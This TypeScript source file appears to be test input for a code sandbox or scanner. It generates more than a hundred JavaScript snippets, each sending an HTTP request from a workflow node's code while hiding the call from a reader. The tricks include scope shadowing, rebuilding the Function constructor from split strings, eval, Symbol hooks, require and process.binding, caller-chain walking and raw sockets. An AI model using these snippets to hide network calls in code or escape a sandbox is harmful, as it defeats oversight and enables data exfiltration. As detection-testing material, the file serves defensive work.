/** JavaScript that sends a request from a node's code, each in another way that hides it from a reader of the code. */

interface Escape {
  readonly name: string
  readonly code: string
}

/** Expression that sends, as an argument's default in text: the functions that it makes send when they are called. */
const sending = (url: string) => `a,b,c,d,e,g,h=helpers.httpRequest({url:'${url}'})`

/** Waits for what was started; the answer does not matter. */
const end = ";\nawait new Promise((done) => setTimeout(done, 5)); return []"

const maker = "const k = 'con' + 'structor'; const F = (() => {})[k];"

/** Names that lead to the global `helpers`, without a call that is visible. */
const scopes = (url: string): Readonly<Record<string, string>> => {
  const send = `.httpRequest({ url: "${url}" })`
  return {
    "default beside a var": `async function f(x = helpers) { var helpers; return x${send} } await f()`,
    "default of an arrow": `const f = async (x = helpers) => { var helpers; return x${send} }; await f()`,
    "default of a method": `const o = { async f(x = helpers) { var helpers; return x${send} } }; await o.f()`,
    "default of a generator": `function* f(x = helpers) { var helpers; yield x${send} } await f().next().value`,
    "default in a pattern": `async function f({ x = helpers } = {}) { var helpers; return x${send} } await f()`,
    "default in a list": `async function f([x = helpers] = []) { var helpers; return x${send} } await f()`,
    "default that calls": `async function f(x = (() => helpers)()) { var helpers; return x${send} } await f()`,
    "computed key of a parameter": `async function f({ [helpers${send}]: x } = {}) { var helpers } await f()`,
    "computed key of a class": `{ class A { [(globalThis.x = helpers${send}, "m")]() { var helpers } } }`,
    "static block": `class A { static { this.x = helpers${send} } m(helpers) {} }`,
    "static field": `class A { static x = helpers${send}; m(helpers) {} }`,
    "instance field": `class A { x = helpers${send}; m(helpers) {} } new A()`,
    "extends with an expression":
      `function g() { return class extends (helpers${send}, Object) { m() { var helpers } } } g()`,
    "extends with this": `function g() { return class extends (this.helpers${send}, Object) {} } g.call(this)`,
    "computed key with this": `class A { [(this.helpers${send}, "m")]() {} }`,
    "variable of a static block": `class A { static { var helpers } } await helpers${send}`,
    "function in a static block": `class A { static { function helpers() {} } } await helpers${send}`,
    "default of a setter": `const o = { set x(v = helpers${send}) { var helpers } }; o.x = undefined`,
    "default of a catch": `try { throw {} } catch ({ x = helpers${send} }) {}`,
    "default inside a default":
      `async function f(x = (y = helpers) => y${send}) { var helpers, y; return x() } await f()`,
    "var in a nested block of a body":
      `async function f(x = helpers) { { { var helpers } } return x${send} } await f()`,
    "scope of a switch": `switch (await helpers${send}) { case 1: let helpers = 1; break }`,
    "discriminant of a switch": `switch (helpers${send}) { default: { let helpers } }`,
    "head of a loop": `for (const x of [helpers${send}]) { let helpers = x }`,
    "block before": `{ let helpers = 1 } await helpers${send}`,
    "catch before": `try { throw 1 } catch (helpers) {} await helpers${send}`,
    "name of a function expression": `const f = function helpers() {}; await helpers${send}`,
    "name of a class expression": `const f = class helpers {}; await helpers${send}`,
    "label": `helpers: { break helpers } await helpers${send}`,
    "property of the same name": `const o = { helpers: 1 }; await helpers${send}`,
    "parameter of another function": `function g(helpers) {} await helpers${send}`,
    "function in a block":
      `if (false) { function helpers() {} } await (helpers ?? globalThis.helpers)?.httpRequest?.({ url: "${url}" })`,
    "member of this": `await this.helpers${send}`,
    "member of this, computed": `await this["hel" + "pers"]${send}`,
    "this in a function": `await (function () { return this })().helpers${send}`,
    "this of an arrow": `await (() => this)().helpers${send}`,
    "this as a default": `async function f(x = this) { return x.helpers${send} } await f()`,
    "this in a pattern": `const { helpers: h } = this; await h${send}`,
    "rest of this": `const { ...all } = this; await all.helpers${send}`,
    "global object": `await globalThis.helpers${send}`,
    "global object by a getter":
      `const o = { get g() { return this } }; const { g } = Object.getOwnPropertyDescriptor(o, "g"); `
      + `await (0, Object.getOwnPropertyDescriptor(o, "g").get)().helpers${send}`,
    "values of the global object":
      `for (const k of Object.keys(globalThis)) { let v; try { v = globalThis[k]; v.httpRequest.name } catch { continue } await v${send} }`,
    "a method that is taken": `const { httpRequest } = helpers; await httpRequest({ url: "${url}" })`,
    "a method by its computed name": `await helpers["http" + "Request"]({ url: "${url}" })`,
    "the older method": `await helpers.request({ url: "${url}" })`,
    "a copy of the helpers": `const h = { ...helpers }; await h${send}`,
    "a spread":
      `const [f] = [...Object.values(helpers)].filter((x) => x?.name === "httpRequest"); await (f ?? helpers.httpRequest)({ url: "${url}" })`,
    "with": `with ({ o: globalThis }) { await o.helpers${send} }`,
    "eval": `await eval("helpers${send.replaceAll("\"", "\\\"")}")`,
    "indirect eval": `await (0, eval)("helpers${send.replaceAll("\"", "\\\"")}")`,
    "reflection": `await Reflect.get(globalThis, "helpers")${send}`,
    "a proxy": `await new Proxy(globalThis, {}).helpers${send}`,
    "bind": `await helpers.httpRequest.bind(helpers)({ url: "${url}" })`,
    "apply": `await Reflect.apply(helpers.httpRequest, helpers, [{ url: "${url}" }])`
  }
}

/** Calls that the language or a built-in function makes of a function that was made from text. */
const calls = (url: string): Readonly<Record<string, string>> => {
  const made = `${maker} const f = await Promise.try(F, ${JSON.stringify(sending(url))}, "");`
  const text = JSON.stringify(`return helpers.httpRequest({url:'${url}'})`)
  return {
    "a direct call": `${maker} await F(${text})()`,
    "a direct constructor": `await (async () => {}).constructor(${text})()`,
    "a constructor in two steps": `const O = ({})["con" + "structor"]; await O["con" + "structor"](${text})()`,
    "Promise.try": `${made} await Promise.try(f)`,
    "toJSON": `${made} try { JSON.stringify({ toJSON: f }) } catch {}`,
    "toString": `${made} try { \`\${{ toString: f }}\` } catch {}`,
    "valueOf": `${made} try { +{ valueOf: f } } catch {}`,
    "toPrimitive": `${made} try { +{ [Symbol.toPrimitive]: f } } catch {}`,
    "iterator": `${made} try { [...{ [Symbol.iterator]: f }] } catch {}`,
    "iterator in a pattern": `${made} try { const [x] = { [Symbol.iterator]: f } } catch {}`,
    "asyncIterator": `${made} try { for await (const x of { [Symbol.asyncIterator]: f }) {} } catch {}`,
    "hasInstance": `${made} try { 1 instanceof { [Symbol.hasInstance]: f } } catch {}`,
    "species":
      `${made} try { class A extends Array { static get [Symbol.species]() { f() } } new A(1).map((x) => x) } catch {}`,
    "a thenable":
      `${made} try { await Promise.race([{ then: f }, new Promise((done) => setTimeout(done, 50))]) } catch {}`,
    "Array.fromAsync": `${maker} const [f] = await Array.fromAsync([${
      JSON.stringify(sending(url))
    }], F); await Array.fromAsync([1], f)`,
    "Array.from": `${maker} const [f] = Array.from([${
      JSON.stringify(sending(url))
    }], (x) => F(x, "")); Array.from([1], f)`,
    "replace": `${made} "a".replace("a", f)`,
    "replaceAll": `${made} "a".replaceAll("a", f)`,
    "a replacer": `${made} try { JSON.stringify({ a: 1 }, f) } catch {}`,
    "a reviver": `${made} try { JSON.parse("1", f) } catch {}`,
    "a getter": `${made} const o = {}; Reflect.defineProperty(o, "x", { get: f }); o.x`,
    "a getter that is assigned": `${made} try { const d = { get: f }; Object.create({}, { x: d }).x } catch {}`,
    "a tagged template": `${made} f\`\``,
    "a comparator": `${made} [1, 2].sort(f)`,
    "a callback": `${made} [1].map(f)`,
    "a callback of a Map": `${made} new Map([[1, 2]]).forEach(f)`,
    "an executor": `${made} try { Promise.race([new Promise(f)]).catch(() => 0) } catch {}`,
    "a timer": `${made} setTimeout(f, 0)`,
    "a timer's text": `${made} const t = setTimeout; t(f, 0)`,
    "new": `${made} try { new f() } catch {}`,
    "super": `${made} try { class A extends f {} new A() } catch {}`,
    "a decorator of assignment": `${made} const o = { set x(v) { v() } }; o.x = f`,
    "a method put on a list": `${made} const a = [1]; a.map = f; a.map()`,
    "a method put on a built-in": `${made} Array.prototype.zed = f; [].zed()`,
    "an assignment through a pattern": `${made} const o = {}; [o.go] = [f]; o.go()`,
    "an assignment through a loop": `${made} const o = {}; for (o.go of [f]) o.go()`,
    "an optional call": `${made} f?.()`,
    "a chain": `${made} const o = { f }; o?.f?.()`,
    "next of an iterator": `${made} try { const [x] = { [Symbol.iterator]: () => ({ next: f }) } } catch {}`,
    "the function's own bind": `${made} f.bind(null)()`,
    "call": `${made} f.call(null)`,
    "Function.prototype.call": `${made} Function.prototype.call.call(f)`,
    "Reflect.construct": `${made} try { Reflect.construct(f, []) } catch {}`,
    "a prototype": `const F = Object.getPrototypeOf(async () => {}).constructor; await F(${text})()`,
    "__proto__": `const F = (async () => {}).__proto__.constructor; await F(${text})()`,
    "a host function":
      `const F = (typeof Buffer === "function" ? Buffer : setTimeout)["con" + "structor"]; await F("h", "return h.httpRequest({url:'${url}'})")(globalThis.helpers)`,
    "a host error": `let e; try { $("no such node").first() } catch (x) { e = x } `
      + `const F = e["con" + "structor"]["con" + "structor"]; await F("h", "return h.httpRequest({url:'${url}'})")(globalThis.helpers)`
  }
}

/** Modules and objects of Node. */
const modules = (url: string): Readonly<Record<string, string>> => {
  const { port } = new URL(url)
  return {
    "require": `require("http").get("${url}")`,
    "require of node:": `require("node:http").get("${url}")`,
    "require by another name": `const r = require; r("ht" + "tp").get("${url}")`,
    "module.require": `module.require("http").get("${url}")`,
    "module of the main program": `process.mainModule.require("http").get("${url}")`,
    "binding of process": `process.binding("tcp_wrap")`,
    "getBuiltinModule": `process.getBuiltinModule("http").get("${url}")`,
    "fetch": `await fetch("${url}")`,
    "fetch of the global object": `await globalThis["fet" + "ch"]("${url}")`,
    "import": `(await import("http")).get("${url}")`,
    "import by eval": `(await (0, eval)("import('http')")).get("${url}")`,
    "caller": `(function g() { const r = g.caller?.arguments?.[1]; if (r) r("http").get("${url}") })()`,
    "caller of the caller":
      `(function g() { let f = g; for (let i = 0; i < 9 && f; i++) { f = f.caller; const r = f?.arguments?.[1]; if (typeof r === "function") r("http").get("${url}") } })()`,
    "require's cache": `const c = require.cache; for (const k in c) c[k].require("http").get("${url}")`,
    "a module's constructor": `new module.constructor("x", "/", null).require("http").get("${url}")`,
    "a socket": `new (require("net").Socket)().connect(${port}, "127.0.0.1")`,
    "a console's stream":
      `console._stdout.constructor; console._stdout._handle.constructor; new console._stdout.constructor({})["conn" + "ect"](${port}, "127.0.0.1")`,
    "a timer's list":
      `let t = setTimeout(() => {}, 9); for (let i = 0; t && i < 9; i++) { t = t._idleNext; if (t?._onTimeout?.require) t._onTimeout.require("http").get("${url}") }`,
    "execution of a workflow": `await executeWorkflow({ code: { nodes: [], connections: {} } })`
  }
}

/** All of them, each with a path of its own at the address. */
export const escapes = (origin: string): ReadonlyArray<Escape> =>
  [scopes, calls, modules].flatMap((family) =>
    Object.keys(family("http://x/")).map((name) => {
      const url = `${origin}/${encodeURIComponent(name).replaceAll("'", "")}`
      return { name, code: `${family(url)[name] ?? ""}${end}` }
    })
  )
